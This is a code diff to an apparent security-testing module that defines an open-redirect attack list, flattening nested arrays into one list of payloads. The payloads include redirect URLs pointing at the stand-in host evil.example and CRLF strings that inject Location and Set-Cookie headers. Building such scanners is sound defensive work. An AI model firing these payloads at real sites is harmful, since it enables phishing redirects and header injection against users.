@@ -2,23 +2,25 @@ import type { Attack } from '../attack.ts'
 
 const evil = 'evil.example'
 const targets = [
-  ...[
-    `//${evil}`,
-    `/\\${evil}`,
-    `///${evil}`,
-    `/%2f${evil}`,
-    `/%5c${evil}`,
-    `//${evil}/%2e%2e`,
-    `/.${evil}`,
-    `/@${evil}`,
-  ],
-  ...[
-    `/login?keepAlivePath=//${evil}`,
-    `/login?keepAlivePath=https://${evil}`,
-    `/login?keepAlivePath=/\\${evil}`,
-  ],
-  ...[`/login?redirect=//${evil}`, `/home?next=https:${evil}`, `/%0d%0aLocation:%20https://${evil}`],
-  ...[`//${evil}/..`, `/home//${evil}`, `/x?%0d%0aSet-Cookie:%20a=b`, `http://${evil}/`, `/;@${evil}`],
+  `//${evil}`,
+  `/\\${evil}`,
+  `///${evil}`,
+  `/%2f${evil}`,
+  `/%5c${evil}`,
+  `//${evil}/%2e%2e`,
+  `/.${evil}`,
+  `/@${evil}`,
+  `/login?keepAlivePath=//${evil}`,
+  `/login?keepAlivePath=https://${evil}`,
+  `/login?keepAlivePath=/\\${evil}`,
+  `/login?redirect=//${evil}`,
+  `/home?next=https:${evil}`,
+  `/%0d%0aLocation:%20https://${evil}`,
+  `//${evil}/..`,
+  `/home//${evil}`,
+  `/x?%0d%0aSet-Cookie:%20a=b`,
+  `http://${evil}/`,
+  `/;@${evil}`,
 ]
 
 export const openRedirects: Attack = {
